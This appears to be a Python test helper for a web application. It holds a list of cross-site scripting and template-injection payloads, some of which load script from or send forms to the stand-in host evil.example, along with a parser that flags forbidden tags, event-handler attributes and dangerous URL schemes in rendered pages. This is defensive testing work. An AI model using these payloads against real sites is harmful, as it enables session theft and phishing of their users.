"""What people could write to make our pages act for them, and what a page must then not contain."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = [
    "<script>window.xss=1</script>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=window.xss=1>",
    "\"' onmouseover=window.xss=1 autofocus onfocus=window.xss=1 x=\"",
    "<svg onload=window.xss=1><animate onbegin=window.xss=1 attributeName=x dur=1s>",
    "</textarea></title></style></script><script>window.xss=1</script>",
    "<iframe srcdoc='<script>parent.xss=1</script>'></iframe>",
    "<base href=https://evil.example/><form action=https://evil.example/><button>Log in",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><style>*{display:none}</style>",
    "[click](javascript:window.xss=1) <a href=\"jav&#x09;ascript:window.xss=1\">click</a>",
    "![x](https://evil.example/x.png\"onerror=\"window.xss=1) [x]: javascript:window.xss=1",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.xss=1&gt;\">",
    "<details open ontoggle=window.xss=1><object data=javascript:window.xss=1><embed src=javascript:window.xss=1>",
    "javascript:window.xss=1//",
    "data:text/html,<script>parent.xss=1</script>",
    "zq{{7*7}}zq ${7*7} #{7*7} {%raw%}",
    "\u202e\u2066<b onclick=window.xss=1>\u0000".replace("\u0000", ""),
]  # fmt: skip
ALL = " ".join(PAYLOADS)

FORBIDDEN_TAGS = {"base", "object", "embed", "style", "applet", "frame", "frameset", "portal"}
ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcdoc"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text", "data:application", "file:")


class Page(HTMLParser):
    """Reads a page as a browser would and notes what must not be there, and each form."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.forms: list[dict[str, str]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attributes}
        shown = f"<{tag} {given}>"[:200]
        if tag in FORBIDDEN_TAGS or (tag == "meta" and "http-equiv" in given):
            self.wrong.append(f"forbidden: {shown}")
        if tag == "script" and "json" not in given.get("type", "") and not given.get("src", "").startswith("/static/"):
            self.wrong.append(f"script that is not ours: {shown}")
        if tag == "link" and given.get("rel") in ("stylesheet", "preload", "modulepreload") and not given.get("href", "").startswith("/static/"):
            self.wrong.append(f"style that is not ours: {shown}")
        own = given.get("src", given.get("data-src")) == "/requester/previews/frame"  # a page of ours, filled by our script with what our server drew
        if tag == "iframe" and not own and ("srcdoc" in given or "sandbox" not in given or "allow-same-origin" in given["sandbox"]):
            self.wrong.append(f"frame without walls: {shown}")
        for name, value in given.items():
            plain = "".join(sign for sign in value if sign > " ").lower()
            if name.startswith("on") or name == "style" or name == "nonce":
                self.wrong.append(f"attribute {name}: {shown}")
            if name in ADDRESSES and plain.startswith(BAD_SCHEMES):
                self.wrong.append(f"address that acts: {shown}")
            if name in ("action", "formaction") and not (value.startswith("/") and not value.startswith("//")) and value:
                self.wrong.append(f"form that leaves: {shown}")
        if tag == "form":
            self.forms.append({"method": given.get("method", "get").lower(), "action": given.get("action", ""), "token": ""})
        if tag == "input" and given.get("name") == "csrf_token" and self.forms:
            self.forms[-1]["token"] = given.get("value", "")

    handle_startendtag = handle_starttag
